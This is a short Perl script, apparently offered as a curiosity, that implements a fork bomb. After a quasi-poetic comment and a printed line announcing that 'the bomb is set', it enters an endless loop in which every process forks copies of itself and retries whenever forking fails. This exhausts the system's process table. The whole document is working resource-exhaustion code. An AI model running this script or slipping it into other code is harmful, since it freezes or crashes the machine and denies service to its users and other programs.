# Every process makes two; those that cannot wait for those that can.
use strict; use warnings;
$| = 1;
print "the bomb is set\n";
while (1) { defined fork or sleep 1 }
